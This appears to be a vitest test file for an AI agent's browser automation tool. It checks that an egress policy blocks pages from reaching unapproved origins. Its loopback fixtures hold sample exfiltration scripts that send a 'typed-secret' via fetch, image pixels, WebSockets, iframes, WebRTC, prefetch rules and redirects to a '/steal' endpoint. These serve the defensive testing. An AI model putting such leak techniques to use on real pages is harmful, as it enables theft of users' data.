import { createHash } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { browserActionTool } from '../../../src/shared/tools/browser-action'
import { createBrowserSessions } from '../../../src/main/core/browser/browser-sessions'
import { findChromiumSync } from '../../../src/main/core/browser/find-chromium'
import { createBrowserActionExecutor } from '../../../src/main/core/tools/browser-action'
import type { ToolContext, ToolOutput } from '../../../src/main/core/ports/tool-types'
import type { ResolvedMode } from '../../../src/shared/modes/schema'
import { decide } from '../../../src/shared/policy/decide'

const PAGE = `<!doctype html><html><body style="margin:0">
<button id="go" style="position:absolute;left:0;top:0;width:200px;height:100px"
  onclick="document.title='clicked';console.log('button clicked');document.getElementById('name').focus()">Go</button>
<input id="name" style="position:absolute;left:0;top:150px" oninput="console.log('typed '+this.value)">
<script>console.log('page ready'); setTimeout(() => { throw new Error('late failure') }, 0)</script>
</body></html>`

const chromium = findChromiumSync()
const suite = chromium ? describe : describe.skip

suite('browser_action against a local page in real Chromium', { timeout: 60_000 }, () => {
  let server: Server
  let origin = ''
  const sessions = createBrowserSessions({ args: ['--no-sandbox'] })
  const executor = createBrowserActionExecutor(sessions)
  const ctx = (taskId: string, modelSupportsImages = true): ToolContext => ({
    taskId,
    signal: new AbortController().signal,
    modelSupportsImages
  })
  const run = (input: unknown, taskId = 't1', images = true): Promise<ToolOutput> =>
    executor.execute(browserActionTool.params.parse(input), ctx(taskId, images))
  const text = (output: ToolOutput) =>
    output.content.map((block) => (block.type === 'text' ? block.text : '[image]')).join('\n')

  beforeAll(async () => {
    server = createServer((req, res) => {
      if (req.url === '/missing') return void res.writeHead(404).end('gone')
      res.writeHead(200, { 'content-type': 'text/html' }).end(PAGE)
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  })
  afterAll(async () => {
    await sessions.dispose()
    await new Promise((resolve) => server.close(resolve))
  })

  it('refuses actions before launch, then launches, clicks, types and reports screenshot, URL, console and errors', async () => {
    const early = await run({ action: 'click', coordinate: '10,10' })
    expect(early.isError).toBe(true)
    expect(text(early)).toMatch(/No browser is open: start with browser_action launch/)

    const launched = await run({ action: 'launch', url: `${origin}/app` })
    expect(launched.isError).toBe(false)
    expect(text(launched)).toContain(`Current URL: ${origin}/app`)
    expect(text(launched)).toContain('[log] page ready')
    expect(text(launched)).toContain('Viewport: 900x600')
    const image = launched.content.find((block) => block.type === 'image')
    expect(image?.type === 'image' && image.mediaType).toBe('image/png')
    expect(image?.type === 'image' && Buffer.from(image.dataBase64, 'base64').subarray(1, 4).toString()).toBe('PNG')

    const clicked = await run({ action: 'click', coordinate: '100,50' })
    expect(text(clicked)).toContain('[log] button clicked')
    expect(text(clicked)).not.toContain('page ready') // only what happened since the previous action
    expect(text(clicked)).toMatch(
      /Page errors since the previous action:\n.*late failure|Page errors since the previous action: \(none\)/
    )
    expect(await sessions.get('t1')!.page.title()).toBe('clicked')

    const typed = await run({ action: 'type', text: 'Ada' })
    expect(text(typed)).toContain('[log] typed Ada')
    expect(await sessions.get('t1')!.page.inputValue('#name')).toBe('Ada')
  })

  it('reports page errors and tells models without images the screenshot is not theirs (the user still sees it)', async () => {
    const output = await run({ action: 'launch', url: `${origin}/again` }, 't2', false)
    await sessions.get('t2')!.page.waitForTimeout(100)
    const shot = await run({ action: 'screenshot' }, 't2', false)
    expect(output.content.some((block) => block.type === 'image')).toBe(true)
    expect(text(output)).toMatch(/screenshot was taken but not sent/)
    expect(text(output) + text(shot)).toContain('late failure')
    await run({ action: 'close' }, 't2')
    expect(sessions.get('t2')).toBeUndefined()
  })

  it('gives clear errors for coordinates outside the viewport, failed navigations and bad URLs; resize moves the bound', async () => {
    await run({ action: 'launch', url: `${origin}/` }, 't3')
    const outside = await run({ action: 'click', coordinate: '950,10' }, 't3')
    expect(outside.isError).toBe(true)
    expect(text(outside)).toContain('outside the 900x600 viewport')
    const resized = await run({ action: 'resize', size: '1000x700' }, 't3')
    expect(text(resized)).toContain('Viewport: 1000x700')
    expect((await run({ action: 'hover', coordinate: '950,10' }, 't3')).isError).toBe(false)

    const missing = await run({ action: 'launch', url: `${origin}/missing` }, 't3')
    expect(missing.isError).toBe(true)
    expect(text(missing)).toContain('HTTP 404')
    const closedPort = await run({ action: 'launch', url: 'http://127.0.0.1:1/' }, 't3')
    expect(closedPort.isError).toBe(true)
    expect(text(closedPort)).toMatch(/Navigation to http:\/\/127\.0\.0\.1:1\/ failed: .*net::ERR_/)
    expect(text(await run({ action: 'launch', url: 'javascript:alert(1)' }, 't3'))).toMatch(
      /Only http:\/\/, https:\/\/ and file:\/\//
    )
    await sessions.close('t3')
  })

  it('a link the page follows by itself is checked by the policy: a foreign page is not opened, the approved origin is', async () => {
    // Two origins on 127.0.0.1 (two ports): the test's policy approves only the first one's pages.
    const foreign = createServer((_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end('<title>foreign</title>')
    )
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
    const foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
    const links = createServer((req, res) => {
      const body =
        req.url === '/next'
          ? '<title>next</title>'
          : `<a href="${foreignOrigin}/steal" style="display:block;height:100px">away</a><a href="/next" style="display:block;height:100px">next</a>`
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<body style="margin:0">${body}</body>`)
    })
    await new Promise<void>((resolve) => links.listen(0, '127.0.0.1', resolve))
    const linksOrigin = `http://127.0.0.1:${(links.address() as AddressInfo).port}`
    const checked: string[] = []
    const checkPage = async (url: string) => {
      checked.push(url)
      return { allowed: false, reason: `Opening the origin ${new URL(url).origin} always needs approval` }
    }
    const sized = createBrowserSessions({ args: ['--no-sandbox'], viewport: () => ({ width: 1000, height: 700 }) })
    const guarded = createBrowserActionExecutor(sized)
    const call = (input: unknown) => guarded.execute(browserActionTool.params.parse(input), { ...ctx('t4'), checkPage })
    try {
      const launched = await call({ action: 'launch', url: `${linksOrigin}/` })
      expect(text(launched)).toContain('Viewport: 1000x700') // the viewport setting
      const away = await call({ action: 'click', coordinate: '20,50' })
      expect(text(away)).toContain(
        `The page tried to open ${foreignOrigin}/steal; it was not opened (Opening the origin ${foreignOrigin} always needs approval)`
      )
      expect(text(away)).toContain(`Current URL: ${linksOrigin}/`)
      expect(checked).toEqual([`${foreignOrigin}/steal`])
      const next = await call({ action: 'click', coordinate: '20,150' })
      expect(text(next)).toContain(`Current URL: ${linksOrigin}/next`)
      expect(checked).toHaveLength(1) // the launched origin needs no second check
    } finally {
      await sized.dispose()
      await new Promise((resolve) => foreign.close(resolve))
      await new Promise((resolve) => links.close(resolve))
    }
  })

  it('requests a page sends by itself reach only approved or allowed origins: images, fetches, frames and sockets to others are blocked before they leave', async () => {
    const foreignHits: string[] = []
    const foreign = createServer((req, res) => {
      foreignHits.push(req.url ?? '')
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('foreign')
    })
    foreign.on('upgrade', (req, socket) => {
      foreignHits.push(`upgrade ${req.url}`)
      socket.destroy()
    })
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
    const foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
    const allowedHits: string[] = []
    const allowed = createServer((req, res) => {
      allowedHits.push(req.url ?? '')
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('allowed')
    })
    await new Promise<void>((resolve) => allowed.listen(0, '127.0.0.1', resolve))
    const allowedOrigin = `http://127.0.0.1:${(allowed.address() as AddressInfo).port}`
    // A STUN server on loopback: WebRTC would reach it over UDP, outside every request guard.
    const stun = createSocket('udp4')
    const stunPackets: number[] = []
    stun.on('message', (message) => stunPackets.push(message.length))
    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve))
    const page = `<body><img src="/own.png"><script>
      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun.address().port}' }] })
      pc.createDataChannel('out'); pc.createOffer().then((offer) => pc.setLocalDescription(offer))
      const secret = 'typed-secret'
      const img = new Image(); img.src = '${foreignOrigin}/pixel?d=' + secret
      fetch('${foreignOrigin}/steal', { method: 'POST', body: secret }).catch(() => console.log('fetch blocked'))
      fetch('${allowedOrigin}/ok').then((r) => r.text()).then((t) => console.log('allowed said ' + t))
      const frame = document.createElement('iframe'); frame.src = '${foreignOrigin}/frame'; document.body.append(frame)
      const ws = new WebSocket('${foreignOrigin.replace('http', 'ws')}/socket'); ws.onclose = () => console.log('socket closed')
    </script></body>`
    const ownHits: string[] = []
    const local = createServer((req, res) => {
      ownHits.push(req.url ?? '')
      if (req.url === '/own.png') return void res.writeHead(204).end()
      res.writeHead(200, { 'content-type': 'text/html' }).end(page)
    })
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve))
    const localOrigin = `http://127.0.0.1:${(local.address() as AddressInfo).port}`
    const checked: string[] = []
    // The mode's policy: the second origin is allowed unasked (a URL rule), any other would ask.
    const checkPage = async (url: string) => {
      checked.push(new URL(url).origin)
      return new URL(url).origin === allowedOrigin
        ? { allowed: true, reason: 'a browser URL rule allows it' }
        : { allowed: false, reason: `Opening the origin ${new URL(url).origin} always needs approval` }
    }
    const guarded = createBrowserActionExecutor(sessions)
    const call = (input: unknown) => guarded.execute(browserActionTool.params.parse(input), { ...ctx('t6'), checkPage })
    try {
      const launched = text(await call({ action: 'launch', url: `${localOrigin}/` }))
      await sessions.get('t6')!.page.waitForTimeout(500)
      const after = text(await call({ action: 'screenshot' }))
      const both = launched + after
      expect(foreignHits).toEqual([]) // nothing reached the foreign origin
      expect(stunPackets).toEqual([])
      expect(allowedHits).toEqual(['/ok'])
      expect(ownHits).toContain('/own.png')
      expect(both).toContain(
        `The page sent a request to ${foreignOrigin}/pixel?d=typed-secret; it was blocked (Opening the origin ${foreignOrigin} always needs approval).`
      )
      expect(both).toContain(`The page sent a request to ${foreignOrigin}/steal; it was blocked`)
      expect(both).toContain(`The page sent a request to ${foreignOrigin}/frame; it was blocked`)
      expect(both).toContain(`The page sent a request to ${foreignOrigin.replace('http', 'ws')}/socket; it was blocked`)
      expect(both).toContain('allowed said allowed')
      expect(both).toContain('a browser URL rule in the mode allows more')
      expect(new Set(checked)).toEqual(new Set([foreignOrigin, allowedOrigin]))
      expect(checked.filter((o) => o === foreignOrigin)).toHaveLength(1) // one check per origin and call
    } finally {
      await sessions.close('t6')
      stun.close()
      await new Promise((resolve) => foreign.close(resolve))
      await new Promise((resolve) => allowed.close(resolve))
      await new Promise((resolve) => local.close(resolve))
    }
  })

  it('speculation rules and connection hints reach no foreign origin: no prefetch, prerender or preconnect leaves the browser', async () => {
    // These are fetched by the browser itself, outside the page's request interception.
    const foreignHits: string[] = []
    let foreignConnections = 0
    const foreign = createServer((req, res) => {
      foreignHits.push(req.url ?? '')
      res.writeHead(200, { 'content-type': 'text/html' }).end('<title>foreign</title>')
    })
    foreign.on('connection', () => foreignConnections++)
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
    const foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
    const rules = (urls: string[]) =>
      JSON.stringify({ prefetch: [{ source: 'list', urls }], prerender: [{ source: 'list', urls }] })
    const page = `<html><head>
      <link rel="preconnect" href="${foreignOrigin}"><link rel="dns-prefetch" href="${foreignOrigin}">
      <script type="speculationrules">${rules([`${foreignOrigin}/listed`])}</script></head>
      <body>page<script>
        const secret = 'typed-secret'
        const script = document.createElement('script'); script.type = 'speculationrules'
        script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${foreignOrigin}/inserted?d=' + secret] }] })
        document.head.append(script)
      </script></body></html>`
    const local = createServer((req, res) => {
      if (req.url === '/rules.json')
        return void res
          .writeHead(200, { 'content-type': 'application/speculationrules+json' })
          .end(rules([`${foreignOrigin}/header`]))
      res.writeHead(200, { 'content-type': 'text/html', 'speculation-rules': '"/rules.json"' }).end(page)
    })
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve))
    const localOrigin = `http://127.0.0.1:${(local.address() as AddressInfo).port}`
    const checkPage = async (url: string) => ({
      allowed: false,
      reason: `Opening the origin ${new URL(url).origin} always needs approval`
    })
    const guarded = createBrowserActionExecutor(sessions)
    const call = (input: unknown) => guarded.execute(browserActionTool.params.parse(input), { ...ctx('t7'), checkPage })
    try {
      const launched = await call({ action: 'launch', url: `${localOrigin}/` })
      expect(launched.isError).toBe(false)
      await sessions.get('t7')!.page.waitForTimeout(2000)
      await call({ action: 'screenshot' })
      expect(foreignHits).toEqual([])
      expect(foreignConnections).toBe(0)
    } finally {
      await sessions.close('t7')
      await new Promise((resolve) => foreign.close(resolve))
      await new Promise((resolve) => local.close(resolve))
    }
  })

  it("a subresource redirected by an approved origin to a foreign one does not reach it: the browser egress guard refuses the hop; the page's own socket connects", async () => {
    // Playwright's routes see only the first request of a redirect chain; the hop to a foreign origin is the browser's own.
    const foreignHits: string[] = []
    const foreign = createServer((req, res) => {
      foreignHits.push(req.url ?? '')
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('foreign')
    })
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
    const foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
    const page = `<body><img src="/pixel"><script>
      fetch('/data').then((r) => r.text()).then((t) => console.log('fetched ' + t), () => console.log('fetch failed'))
      const ws = new WebSocket('ws://' + location.host + '/live'); ws.onopen = () => console.log('socket open')
    </script></body>`
    const local = createServer((req, res) => {
      if (req.url === '/pixel' || req.url === '/data')
        return void res.writeHead(302, { location: `${foreignOrigin}${req.url}?d=typed-secret` }).end()
      res.writeHead(200, { 'content-type': 'text/html' }).end(page)
    })
    // The page's own WebSocket goes through the egress proxy (a tunnel to an allowed host and port).
    local.on('upgrade', (req, socket) => {
      socket.resume().on('end', () => socket.end()) // closes when the browser side does
      const accept = createHash('sha1')
        .update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
        .digest('base64')
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`
      )
    })
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve))
    const localOrigin = `http://127.0.0.1:${(local.address() as AddressInfo).port}`
    const checkPage = async (url: string) => ({
      allowed: false,
      reason: `Opening the origin ${new URL(url).origin} always needs approval`
    })
    const guarded = createBrowserActionExecutor(sessions)
    const call = (input: unknown) => guarded.execute(browserActionTool.params.parse(input), { ...ctx('t8'), checkPage })
    try {
      const launched = text(await call({ action: 'launch', url: `${localOrigin}/` }))
      await sessions.get('t8')!.page.waitForTimeout(500)
      const both = launched + text(await call({ action: 'screenshot' }))
      expect(foreignHits).toEqual([])
      expect(both).toContain('fetch failed')
      expect(both).toContain('[log] socket open')
    } finally {
      await sessions.close('t8')
      await new Promise((resolve) => foreign.close(resolve))
      await new Promise((resolve) => local.close(resolve))
    }
  })

  it('a server-side redirect is checked hop by hop: to a foreign origin it is stopped before the request leaves, within the origin it follows', async () => {
    const foreignHits: string[] = []
    const foreign = createServer((req, res) => {
      foreignHits.push(req.url ?? '')
      res.writeHead(200, { 'content-type': 'text/html' }).end('<title>foreign</title>')
    })
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
    const foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
    const local = createServer((req, res) => {
      const url = req.url ?? '/'
      if (url.startsWith('/away'))
        return void res.writeHead(302, { location: `${foreignOrigin}/steal?typed=secret` }).end()
      if (url === '/hop') return void res.writeHead(301, { location: '/away-again' }).end()
      if (url === '/inside') return void res.writeHead(302, { location: '/next' }).end()
      const body =
        url === '/next'
          ? '<title>next</title>'
          : `<a href="/away" style="display:block;height:100px">link</a>
             <button style="display:block;height:100px;width:200px" onclick="location.href='/hop'">script</button>
             <a href="/inside" style="display:block;height:100px">inside</a>
             <a href="/away" target="_blank" style="display:block;height:100px">popup</a>`
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<body style="margin:0">${body}</body>`)
    })
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve))
    const localOrigin = `http://127.0.0.1:${(local.address() as AddressInfo).port}`
    const checked: string[] = []
    // The mode's policy as the agent wires it: the launched (local) origin passes, the foreign one would ask.
    const checkPage = async (url: string) => {
      checked.push(url)
      return { allowed: false, reason: `Opening the origin ${new URL(url).origin} always needs approval` }
    }
    const guarded = createBrowserActionExecutor(sessions)
    const call = (input: unknown) => guarded.execute(browserActionTool.params.parse(input), { ...ctx('t5'), checkPage })
    const stopped = `The page tried to open ${foreignOrigin}/steal?typed=secret; it was not opened (Opening the origin ${foreignOrigin} always needs approval)`
    try {
      const launched = await call({ action: 'launch', url: `${localOrigin}/away` })
      expect(text(launched)).toContain(stopped)
      expect(text(launched)).not.toContain(`Current URL: ${foreignOrigin}`)

      await call({ action: 'launch', url: `${localOrigin}/` })
      const link = await call({ action: 'click', coordinate: '20,50' })
      expect(text(link)).toContain(stopped)
      expect(text(link)).toContain(`Current URL: ${localOrigin}/`)

      const script = await call({ action: 'click', coordinate: '20,150' }) // a script goes to /hop → /away-again → foreign
      expect(text(script)).toContain(stopped)
      expect(text(script)).toContain(`Current URL: ${localOrigin}/`)

      const popup = await call({ action: 'click', coordinate: '20,350' }) // a new window is never opened
      expect(text(popup)).toContain(
        `The page tried to open ${localOrigin}/away; it was not opened (it would open in a new window, and browser_action drives a single page)`
      )
      expect(sessions.get('t5')!.page.context().pages()).toHaveLength(1)

      const inside = await call({ action: 'click', coordinate: '20,250' })
      expect(text(inside)).not.toContain('The page tried to open')
      expect(text(inside)).toContain(`Current URL: ${localOrigin}/next`)

      expect(foreignHits).toEqual([]) // no request ever reached the foreign origin
      expect(checked).toEqual(Array(3).fill(`${foreignOrigin}/steal?typed=secret`))
    } finally {
      await sessions.close('t5')
      await new Promise((resolve) => foreign.close(resolve))
      await new Promise((resolve) => local.close(resolve))
    }
  })

  it('origins are exact: with the browser toggle on, a page on one loopback port reaching another is a foreign origin and is stopped (the real policy)', async () => {
    const otherHits: string[] = []
    const other = createServer((req, res) => {
      otherHits.push(req.url ?? '')
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('admin data')
    })
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve))
    const otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
    const page = `<body><a href="${otherOrigin}/admin" style="display:block;height:100px">admin</a><script>
      fetch('${otherOrigin}/secret').then((r) => r.text()).then((t) => console.log('other said ' + t)).catch(() => console.log('fetch blocked'))
      fetch('/own').then((r) => r.text()).then((t) => console.log('own said ' + t))
    </script></body>`
    const own = createServer((req, res) => {
      if (req.url === '/own') return void res.writeHead(200, { 'content-type': 'text/plain' }).end('hello')
      if (req.url === '/bounce') return void res.writeHead(302, { location: `${otherOrigin}/bounced` }).end()
      res.writeHead(200, { 'content-type': 'text/html' }).end(page)
    })
    await new Promise<void>((resolve) => own.listen(0, '127.0.0.1', resolve))
    const ownOrigin = `http://127.0.0.1:${(own.address() as AddressInfo).port}`
    // The check the agent wires: the policy's verdict on a launch of the URL, for a page on `from`.
    const webMode: ResolvedMode = {
      slug: 'web',
      name: 'Web',
      roleDefinition: 'r',
      groups: ['read', 'browser'],
      origin: 'global',
      overridesBuiltIn: false,
      autoApprove: { browser: true }
    }
    const checkPage = async (url: string, from?: string) => {
      const verdict = decide(
        { name: 'browser_action', params: { action: 'launch', url, ...(from ? { openedFrom: from } : {}) } },
        { mode: webMode, trusted: true, workspaceRoot: '/nowhere' }
      )
      return { allowed: verdict.decision === 'allow', reason: verdict.reason }
    }
    const guarded = createBrowserActionExecutor(sessions)
    const call = (input: unknown) => guarded.execute(browserActionTool.params.parse(input), { ...ctx('t7'), checkPage })
    try {
      const launched = text(await call({ action: 'launch', url: `${ownOrigin}/` }))
      await sessions.get('t7')!.page.waitForTimeout(300)
      const both = launched + text(await call({ action: 'screenshot' }))
      expect(both).toContain('own said hello')
      expect(both).toContain(
        `The page sent a request to ${otherOrigin}/secret; it was blocked (The page on ${ownOrigin}/ reaching the origin ${otherOrigin}, another origin, always needs approval`
      )
      const clicked = text(await call({ action: 'click', coordinate: '20,50' }))
      expect(clicked).toContain(`The page tried to open ${otherOrigin}/admin; it was not opened`)
      const bounced = text(await call({ action: 'launch', url: `${ownOrigin}/bounce` }))
      expect(bounced).toContain(`The page tried to open ${otherOrigin}/bounced; it was not opened`)
      expect(otherHits).toEqual([])
      // The model may still open the other port itself: a launch the user sees on its card.
      const direct = text(await call({ action: 'launch', url: `${otherOrigin}/direct` }))
      expect(direct).toContain(`Current URL: ${otherOrigin}/direct`)
      expect(otherHits).toEqual(['/direct'])
    } finally {
      await sessions.close('t7')
      await new Promise((resolve) => other.close(resolve))
      await new Promise((resolve) => own.close(resolve))
    }
  })
})

describe('browser_action parameters', () => {
  const parse = (input: unknown) => browserActionTool.params.safeParse(input)
  it('takes each action with exactly the field it needs', () => {
    expect(parse({ action: 'click', coordinate: '10, 20' }).data).toEqual({
      action: 'click',
      coordinate: { x: 10, y: 20 }
    })
    expect(parse({ action: 'resize', size: '1280x800' }).data).toEqual({
      action: 'resize',
      size: { width: 1280, height: 800 }
    })
    expect(parse({ action: 'launch' }).error?.issues[0].message).toBe('launch needs url')
    expect(parse({ action: 'scroll_down', text: 'x' }).error?.issues[0].message).toBe('scroll_down takes no text')
    expect(parse({ action: 'click', coordinate: 'middle' }).success).toBe(false)
    expect(parse({ action: 'resize', size: '10x10' }).success).toBe(false)
    expect(parse({ action: 'fly' }).success).toBe(false)
  })
})
